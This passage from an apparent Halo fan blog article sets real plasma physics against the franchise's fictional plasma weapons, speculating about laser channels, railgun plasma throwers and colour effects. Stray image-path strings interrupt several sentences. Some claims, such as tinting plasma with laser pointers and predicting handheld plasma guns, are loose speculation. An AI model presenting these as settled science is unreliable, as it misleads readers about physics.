▪ The plasma shot out of a plasma weapon would tend to dissipate in the surrounding environment within about 50 centimeters from the gun, from thermal and/or electric pressure expansion, called blooming, (Sound familiar) unless:
▪ The magnetic confinement bottle is extended all the way to the target. Modifications to this bottle could make the plasma home in on its target.
▪ The plasma issomehow made self-sustaining over a much longer time period (as with ball lightning).
▪ The particles are fired fast enough to reach a target before blooming occurs. This is then a particle beam more than a plasma shot (at least as much as any technical definition for such weapons exists). This would work for use outside atmosphere (i.e. in a space vacuum), but within an atmosphere would merely cause a hotter short flame from more violent collision between the flying particles and the atmosphere.
▪ It might also be possible to generate a laser beam “tunnel”. High-energy lasers ionize the air around the beam, heating the atmosphere and providing the plasma bolt with an easy passage to the target (see electrolaser).
▪ Another laser-assisted plasma weapon approach for use in atmosphere is possible if the laser is powerful enough to blast the air out of the way, but having the plasma particles reach the target before the newly-created vacuum channel collapses in on itself is a problem unless the weapon possesses sufficient power to either sustain the channel or the aforementioned “plasma particle beam” approach is used.
▪ It may also be possible to encase a bolt of plasma in a capsule of some material, possibly a polymer. This wouldallow the plasma to reach a medium distance before the capsule wears out.
▪ A plasma round would glow very brightly due to blackbody radiation, leading to quick substantial energy loss. This might also represent a blinding hazard for the operator and bystanders. From basic physics, a 1 cm ball of plasma at 10,000 Kelvin (K) would be equal to a 700 kilowatt (kw) bulb. 1000 K would equate to a 70 W bulb.
▪ Many materialsalready exist that are highly resistant to plasma, reinforced carbon-carbon used on the Space Shuttle’s nose cone for example; or the ceramic inserts used in bulletproof vests.

This next part is very interesting as it also pretains to Railguns, of which we will see in Halo 4:
With a railgun a ‘plasma/particle thrower’ similar to a long range natural gas flamethrower could possibly be made. Most railguns throw a trail of plasma (of the rail material and projectile material) out after or with the projectile: this is very short lived but extends over 3 to 30 feet. This is because of arcing of the rails and projectile. The plasma conducts and so is subject to the working force of all railguns (Lorentz force). The plasma thrower would use a rapid-fire small projectile and very thick rails spring/actuator mounted that move inwards with wear. A tungstenaluminiumchromium alloy for both the rails and projectile would yield good results but the projectiles would have to be very small so they are fully disintegrated into the plasma.

(1) 11/24/2007
(2) 3/3/2005

Another interesting link on the subject:

Fiction (within Halo):
Plasma is used in varying forms within the Covenant. Most of them being weaponized. We have seen the plasma pistol, rifle, launcher; large ship mounted canons like those on the revenant, and wraith; as well as the huge cannons on Covenant vessels all the way from dropships to the massive capital ships.

Within the Haloverse plasma can be enabled to home in on a target. As noted above in the “Fact” section,this seems entirely plausible though not possible in our timeline. However, 500 years from now should be enough time for technology to progress so that there are homing plasma weapons.

In Halo we see plasma in differing colors. In the “Fact” section, it is noted that plasma would glow brightly, but does not specify what color. By using low grade color lasers (such as those in a laser pointer) it may be possible to “colorize” plasma to the desired color. In the case of Halo, this has somehow already been utilized.When comparing the factual side of Plasma as we know it today, vs. the fictional uses of Plasma in the Haloverse 500 or soyears from now, there is a clear difference. However, it is likely that we will be able to harness the power of plasma for uses such as a handheld weapon. Given the advances of the scientific community in just the last 125 years, it is entirely plausible that plasma hand-held weapons will exist at some point, and likely BEFORE the time frame of the Halo franchise.

Plasma Weapons will need to make use of a powerful, yet small and mobile powersource, strong enough to create the force necessary to direct and maintain the plasma shot.Color laser pointers can be used in conjunction with the weapon to give it a specific color, however that would likely not be necessary and add weight to the design. Weapons such as these need not have color to them and the plasma would likely move too fast to see it anyway, especially over short distances. The only reason for a laser with the weapon at this point would be as a scope, which would not be seen except at the terminal point, (the target). Likewise the laser could be used as adirectional device and mode of transportation for the plasma.

Yes, this article is long.However, if you stayed with me though the whole thing I commend you. I hope I’ve brought some real-world knowledge about Plasma to you and maybe even inspired you to look up more information on the subject. Look for more “The Science of Halo, Fact versus Fiction” articles in the near future. I’mcurrently writing up one for the SpartanLaser.

As always, thanks for reading and let meknow what you think of the article.